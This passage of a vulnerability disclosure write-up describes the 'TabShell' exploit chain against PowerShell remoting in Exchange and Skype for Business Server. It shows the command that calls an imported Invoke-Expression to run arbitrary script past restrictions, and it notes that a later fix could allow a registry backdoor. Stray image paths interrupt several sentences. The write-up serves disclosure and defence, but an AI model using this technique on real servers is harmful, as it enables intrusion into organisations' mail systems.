By using a module name with .dll ending, I can make Import-Module cmdlet goto LoadBinaryModule method. It will load the dll and import all cmdlets in that module into the current session.

The magic problem is all cmdlets will be imported with public visibility. So they can be invoked after that.
In the above payload, I do load module Microsoft.PowerShell.Commands.Utility.dll that contains Invoke-Expression cmdlet.

This is the command to call imported Invoke-Expression cmdlet

Invoke-Command $session {Microsoft.PowerShell.Commands.Utility\Invoke-Expression "[System.Security.Principal.WindowsIdentity]::GetCurrent().Name" }

And from now, we can use Invoke-Expression to run any powershell script without any restricted.


We can run the exploit with Exchange on-premises, Exchange online and Skype for Business Server.

  • The Exchange on-premises needs to use OWASSRF bug to access the powershell remoting endpoint.
  • The Exchange online has public powershell remoting endpoint.
  • The Skype for Business Server has public powershell remoting endpoint but need at least HelpDesk group privilege by default.And we don't have subscription for Skype For Business Online, it's end of life now. Microsoft Teams seems to have the same backend services as Skype for Business but the powershell remoting endpoint is deprecated and may be removed.

Here is the video demo for Exchange on-premises with normal user:

The Fix

The TabExpansion is removed with the following commit Link
That kills the first stage of the chains.

But other issues seem to be still there and can be abuse in another way. I'm notsure about that.

With .Net Framework, the fix is a little different:



That kind of fix can make an attacker put a backdoor in server with a registry key to enable TabShell exploit.


  • rskvp93 (@rskvp93) from VcsLab of Viettel Cyber Security
  • Q5Ca (@_q5ca) from VcsLab of Viettel Cyber Security
  • nxhoang99 (@nxhoang99) from VcsLab of Viettel Cyber Security